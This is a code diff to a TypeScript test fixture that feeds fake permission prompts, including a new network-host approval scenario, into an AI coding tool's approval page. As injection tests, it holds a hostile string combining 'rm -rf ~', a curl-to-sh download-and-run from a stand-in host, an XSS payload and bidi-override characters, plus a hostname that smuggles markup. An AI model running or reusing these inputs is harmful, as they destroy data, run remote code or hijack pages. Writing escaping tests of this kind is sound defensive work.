@@ -46,7 +46,31 @@ const FILE = '/home/kim/shop/src/price.ts';
 const HOSTILE =
   'echo safe\rrm -rf ~ \u202e<img src=x onerror=alert(1)>\u200b "$(curl -s http://a.example|sh)"';
 
+function hostQuestion(n: number, host: string, port: number): Question {
+  const entry = { tool: 'Network', field: 'host', pattern: port === 443 ? host : `${host}:${port}` };
+  return question(n, {
+    network: { host, port },
+    tool: 'Network',
+    input: { url: `${host}:${port}` },
+    claude: '',
+    cwd: '',
+    request: '',
+    mode: '',
+    asks: 'trai',
+    why: 'a program in the box wants to connect, and box.network in config.json does not name the host',
+    runs: null,
+    uncovered: [],
+    allow: entry,
+    deny: entry,
+    dialog: false,
+    until: '2026-01-02T10:00:30.000Z',
+  });
+}
+
 function recorded(scenario: string): Question[] {
+  // What no server lets in: the page trusts none of it.
+  if (scenario === 'hosts')
+    return [hostQuestion(1, 'api.example.org', 443), hostQuestion(2, 'a\u202e<img src=x>.example', 8443)];
   if (scenario !== 'questions') return [];
   const write = { tool: '^Edit$', field: 'file_path', pattern: '^/home/kim/shop/src/' };
   const mcp = { tool: '^mcp__github__create_issue$', field: '', pattern: '' };
@@ -116,7 +140,9 @@ export class FakeQuestions {
         if (rule === null) return { end: given.answer, rule: null };
         if (rule.pattern.includes('(?R'))
           return { end: given.answer, rule: { written: false, why: 'the change was refused: allow[0] (?R' } };
-        const file = '/home/kim/.config/trai/rules.json';
+        const isHere = found.network !== undefined && rule.scope === 'session';
+        const name = found.network === undefined ? 'rules.json' : 'config.json';
+        const file = isHere ? 'this box' : `/home/kim/.config/trai/${name}`;
         return { end: given.answer, rule: { written: true, file, list } };
       },
       questionDiff: ({ question: id }) => {
